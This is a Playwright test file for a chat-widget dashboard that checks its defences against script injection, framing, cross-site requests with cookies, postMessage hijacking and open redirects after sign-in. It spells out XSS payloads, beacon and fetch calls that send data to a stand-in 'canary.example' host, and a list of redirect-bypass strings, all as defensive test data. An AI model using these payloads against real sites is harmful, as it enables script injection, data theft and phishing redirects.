// Defenses against hostile code in a page, around it or before it: policies, frames, messages, and redirects after
// signing in.
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectStatus } from '../business.ts';
import { call, createApiKey, signUp } from '../harness.ts';
import { findLatestEmail, waitForEmails } from '../live-business.ts';
import { pickTodaysShare } from '../random.ts';
import { type AttackMonitor, monitorAttacks } from './attack-texts.ts';
import { locateChat, toPageFunction } from './browser.ts';
import { openDashboard } from './dashboard.ts';
import { waitUntilLoaded } from './pages.ts';
import { createInstallCode, createPageHtml, startWebsite } from './website.ts';

const { service, workspace, key, cookie, open } = await openDashboard(['restaurant']);
const site = await startWebsite();
const foreignSite = await startWebsite();
afterAll(() => {
  site.close();
  foreignSite.close();
});

/** The path of a customer's booking page: without scripts, linked from an email. */
let customerPath: string;
beforeAll(async () => {
  const startsAt = `${new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10)}T18:00`;
  const customer = { name: 'Dana Fox', email: 'dana@example.com' };
  expectStatus(
    201,
    await call(service, 'POST', '/api/v1/restaurant/reservations', { key, body: { partySize: 2, startsAt, customer } }),
  );
  await waitForEmails(service);
  customerPath = (await findLatestEmail(service, 'dana@example.com')).booking;
});

const OWN_PATHS = [
  '/',
  '/inbox',
  '/operator',
  '/login',
  '/docs',
  '/problems',
  '/demo',
  '/demo/restaurant',
  '/api/health',
];

/** What an attacker would try who could write into the page. */
const RUN_ATTACKS = toPageFunction<Promise<string[]>>(`async (foreign) => {
  // Runs later, and so not as part of the test driver's call, in which eval is allowed.
  await new Promise((done) => setTimeout(done));
  const executed = [];
  window.xss = (attack) => executed.push(attack);
  const add = (markup) => { const box = document.createElement('div'); box.innerHTML = markup; document.body.append(box); return box; };
  const script = document.createElement('script');
  script.textContent = 'xss("an inline script")';
  document.body.append(script);
  add('<img src=x onerror="xss(\\'a handler\\')">');
  add('<svg onload="xss(\\'an svg\\')"></svg>');
  add('<a id=go href="javascript:xss(\\'a link\\')">x</a>').querySelector('a').click();
  add('<iframe srcdoc="<script>parent.xss(\\'a frame\\')</scr' + 'ipt>"></iframe>');
  add('<iframe src="' + foreign + '/frame"></iframe>');
  add('<img src="' + foreign + '/image">');
  add('<link rel=stylesheet href="' + foreign + '/sheet"><object data="' + foreign + '/object"></object>');
  add('<video src="' + foreign + '/video"></video><embed src="' + foreign + '/embed">');
  const form = add('<form action="' + foreign + '/form" target=_blank method=post><input name=a></form>').querySelector('form');
  form.submit();
  const foreignScript = document.createElement('script');
  foreignScript.src = foreign + '/script';
  document.body.append(foreignScript);
  const base = document.createElement('base');
  base.href = foreign + '/';
  document.head.append(base);
  const relative = document.createElement('img');
  relative.src = 'relative';
  document.body.append(relative);
  try { eval('xss("eval")'); } catch {}
  try { new Function('xss("a function")')(); } catch {}
  try { setTimeout('xss("a timer")'); } catch {}
  try { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => xss('a worker'); } catch {}
  await fetch(foreign + '/fetch', { mode: 'no-cors' }).catch(() => {});
  try { navigator.sendBeacon(foreign + '/beacon', 'x'); } catch {}
  try { new WebSocket(foreign.replace('https', 'wss') + '/socket'); } catch {}
  try { new EventSource(foreign + '/events'); } catch {}
  await new Promise((done) => setTimeout(done, 300));
  return executed;
}`);

let monitorPromise: Promise<AttackMonitor> | undefined;

/** What attacks achieve from now on. All pages of the owner share one monitor, as they share one browser profile. */
async function watchForAttacks(page: Page): Promise<string[]> {
  monitorPromise ??= monitorAttacks(page.context());
  const { findings } = await monitorPromise;
  findings.length = 0;
  return findings;
}

describe('a page’s own policy', () => {
  it('is what stops attacks: on a page without one, most of them succeed', async () => {
    const { page } = await open('/login');
    const findings = await watchForAttacks(page);
    await page.goto(site.addPage('/bare', createPageHtml('')));
    const executed = await page.evaluate(RUN_ATTACKS, 'https://canary.example');
    const expectedAttacks = ['an inline script', 'a handler', 'a link', 'a frame', 'eval', 'a function', 'a timer'];
    expect(executed).toEqual(expect.arrayContaining([...expectedAttacks, 'a worker']));
    for (const path of ['image', 'fetch', 'sheet', 'script', 'frame', 'form', 'relative'])
      expect(findings.join()).toContain(`canary.example/${path} was requested`);
  });

  it.each([...OWN_PATHS.filter((path) => path !== '/api/health'), 'the customer’s'])(
    'of %s stops injected code, and sends nothing to other hosts',
    async (path) => {
      const { page } = await open(path.startsWith('/') ? path : customerPath);
      const findings = await watchForAttacks(page);
      await page.waitForLoadState('load');
      expect(await page.evaluate(RUN_ATTACKS, 'https://canary.example')).toEqual([]);
      expect(findings).toEqual([]);
    },
  );
});

describe('a foreign page', () => {
  /** Which of these URLs load in frames of a hostile page. */
  async function findLoadedFrames(urls: string[]): Promise<string[]> {
    const frameTags = urls.map((url) => `<iframe src="${url}"></iframe>`).join('');
    const { page } = await open('/login');
    await page.goto(site.addPage('/frames', createPageHtml('', { body: frameTags })), { waitUntil: 'networkidle' });
    const frameUrls = page
      .frames()
      .slice(1)
      .map((frame) => frame.url())
      .filter((url) => !url.startsWith('chrome-error:'));
    await page.close();
    return frameUrls;
  }

  it('cannot frame any page of ours, signed in or not', async () => {
    const paths = [
      ...OWN_PATHS,
      customerPath,
      '/preview.html',
      '/signup',
      '/widget.js',
      '/openapi.json',
      '/nothing-here',
    ];
    const ownUrls = paths.map((path) => service.url + path);
    expect(await findLoadedFrames([...ownUrls, site.addPage('/own', createPageHtml(''))])).toEqual([
      `${site.origin}/own`,
    ]);
  });

  it('cannot read or change anything with its visitor’s cookie', async () => {
    const { page } = await open('/');
    await waitUntilLoaded(page);
    await page.goto(site.addPage('/forge', createPageHtml('')));
    const readableResponses = await page.evaluate(
      toPageFunction<Promise<string[]>>(`async (url) => {
        const requests = [
          ['GET', '/api/me'], ['GET', '/api/conversations'], ['PUT', '/api/plan'], ['POST', '/api/keys'],
          ['DELETE', '/api/members/x'], ['POST', '/api/auth/sign-out'],
        ];
        const responses = [];
        for (const [method, path] of requests)
          for (const type of ['application/json', 'text/plain', undefined])
            await fetch(url + path, { method, credentials: 'include', ...(type ? { headers: { 'content-type': type } } : {}), ...(method === 'GET' ? {} : { body: '{}' }) })
              .then(async (response) => responses.push(method + ' ' + path + ': ' + await response.text()), () => {});
        return responses;
      }`),
      service.url,
    );
    expect(readableResponses).toEqual([]);
    expect((await call(service, 'GET', '/api/me', { cookie })).status).toBe(200);
  });

  it('cannot talk to the widget by messages, from a frame or a window', async () => {
    const { key: publishableKey } = await createApiKey(service, workspace, {
      kind: 'publishable',
      origins: [site.origin],
    });
    const messages = [
      'frontdesk',
      'frontdesk:open',
      'open',
      'reset',
      { type: 'open' },
      { type: 'frontdesk', command: 'send', text: 'hello' },
      { kind: 'visitor' },
      { action: 'identify', jwt: 'x' },
      ['open'],
      { __proto__: { open: 1 } },
      null,
    ];
    const flood = `<script>const messages = ${JSON.stringify(messages)}; const target = opener ?? parent;
      let times = 0; setInterval(() => { if (times++ < 20) for (const message of messages) target.postMessage(message, '*'); }, 20);
      new BroadcastChannel('frontdesk').postMessage({ kind: 'visitor' });</script>`;
    const hostileUrl = foreignSite.addPage('/messages', `<!doctype html>${flood}`);
    const { page } = await open('/login');
    const errorMessages: string[] = [];
    page.on('pageerror', (error) => errorMessages.push(error.message));
    await page.goto(
      site.addPage(
        '/host',
        createPageHtml(createInstallCode(service.url, publishableKey), {
          body: `<iframe src="${hostileUrl}"></iframe>`,
        }),
      ),
    );
    const chat = locateChat(page);
    await chat.launcher.waitFor();
    const requestUrls: string[] = [];
    page.on('request', (request) => request.url().startsWith(service.url) && requestUrls.push(request.url()));
    const popup = page.waitForEvent('popup');
    await page.evaluate(toPageFunction(`(url) => { window.open(url, 'two'); }`), hostileUrl);
    await (await popup).waitForLoadState('load');
    await page.waitForTimeout(1_000);
    expect({ requestUrls, errorMessages, openPanels: await chat.panel.count() }).toEqual({
      requestUrls: [],
      errorMessages: [],
      openPanels: 0,
    });
  });

  it('with the install code of a business that has not allowed its origin gets no chat, and no data', async () => {
    const { key: publishableKey } = await createApiKey(service, workspace, {
      kind: 'publishable',
      origins: [site.origin],
    });
    const { page } = await open('/login');
    const statuses: number[] = [];
    page.on('response', (response) => response.url().includes('/api/') && statuses.push(response.status()));
    await page.goto(foreignSite.addPage('/stolen', createPageHtml(createInstallCode(service.url, publishableKey))), {
      waitUntil: 'networkidle',
    });
    expect(statuses.filter((status) => status < 400)).toEqual([]);
  });
});

it('the preview shows a widget only within the dashboard', async () => {
  const { key: publishableKey } = await createApiKey(service, workspace, {
    kind: 'publishable',
    origins: [service.url],
  });
  const { page } = await open('/login');
  await page.goto(`${service.url}/preview.html#${publishableKey}`, { waitUntil: 'networkidle' });
  expect(await page.locator('chat-launcher').count()).toBe(0);
  await page.goto(`${service.url}/login`);
  await page.evaluate(
    toPageFunction(
      `(url) => { const frame = document.createElement('iframe'); frame.src = url; document.body.append(frame); }`,
    ),
    `/preview.html#${publishableKey}`,
  );
  await page.frameLocator('iframe').locator('chat-launcher').first().waitFor({ state: 'attached' });
});

it('the preview of a draft takes settings only from the page around it', async () => {
  const { page: attackerPage } = await open('/login');
  const attack = `<button>Open</button><script>document.querySelector('button').onclick = () => {
    const dashboard = window.open('${service.url}/business?section=widget');
    setInterval(() => {
      const settings = { title: 'Hacked', texts: {}, suggestions: [] };
      for (const target of [dashboard, dashboard.frames[0]])
        target?.postMessage({ type: 'frontdesk.draft', settings, open: true }, '*');
      dashboard.postMessage({ type: 'frontdesk.preview', event: 'close' }, '*');
    }, 20);
  };</script>`;
  await attackerPage.goto(foreignSite.addPage('/opener', `<!doctype html>${attack}`));
  const popup = attackerPage.waitForEvent('popup');
  await attackerPage.getByRole('button').click();
  const dashboardPage = await popup;
  const panel = dashboardPage.frameLocator('iframe').locator('.panel');
  await panel.locator('.bubble').first().waitFor();
  await dashboardPage.waitForTimeout(500);
  expect(await panel.getByRole('heading').innerText()).toBe('Bella Vista');
  await dashboardPage.getByRole('button', { name: 'Chat', exact: true, pressed: true }).waitFor();
  await dashboardPage.getByLabel('Title', { exact: true }).fill('Ask us');
  await panel.getByRole('heading', { name: 'Ask us' }).waitFor();
});

describe('after signing in', () => {
  const FOREIGN_TARGETS = [
    'https://canary.example',
    '//canary.example',
    '///canary.example',
    '/\\canary.example',
    '\\/canary.example',
    '/\t/canary.example',
    '/\n/canary.example',
    '/%09/canary.example',
    '/%2f%2fcanary.example',
    '/%5ccanary.example',
    'javascript:xss(1)',
    ' javascript:xss(1)',
    'JaVaScRiPt:xss(1)',
    '/javascript:xss(1)',
    'data:text/html,<script>xss(1)</script>',
    '/..//canary.example',
    '/.//canary.example',
    '/./\\canary.example',
    '@canary.example',
    '.canary.example',
    '/?next=https://canary.example',
    '//canary.example/%2f..',
    '/\u2028/canary.example',
  ];

  /** Not the cookie of a session, so that nobody is signed in. */
  const NO_SESSION = 'a=b';

  it('nobody is redirected to another site', async () => {
    const person = await signUp(service);
    const problems: string[] = [];
    const { page } = await open('/login', { cookie: NO_SESSION });
    const { findings } = await monitorAttacks(page.context());
    for (const next of pickTodaysShare(FOREIGN_TARGETS, 3)) {
      await page.context().clearCookies();
      await page.goto(`${service.url}/login?next=${encodeURIComponent(next)}`);
      await signIn(page, person).catch((error) => problems.push(`${next}: ${error} at ${page.url()}`));
      const origin = await page.evaluate<string>('location.origin');
      if (origin !== service.url) problems.push(`${next}: ${origin}`);
    }
    expect(problems).toEqual([]);
    expect(findings).toEqual([]);
    // A path within the dashboard is followed.
    await page.context().clearCookies();
    await page.goto(`${service.url}/login?next=${encodeURIComponent('/team?x=1')}`);
    await signIn(page, person);
    await page.waitForURL(/\/team/);
  });
});

async function signIn(page: Page, { email, password }: { email: string; password: string }): Promise<void> {
  await page.getByLabel('Email').fill(email);
  await page.getByLabel('Password').fill(password);
  const signInResponse = page.waitForResponse((response) => response.url().endsWith('/sign-in/email'));
  await page.getByRole('button', { name: 'Sign in' }).click();
  await signInResponse;
  await page.getByRole('button', { name: 'Sign in' }).waitFor({ state: 'detached' });
}
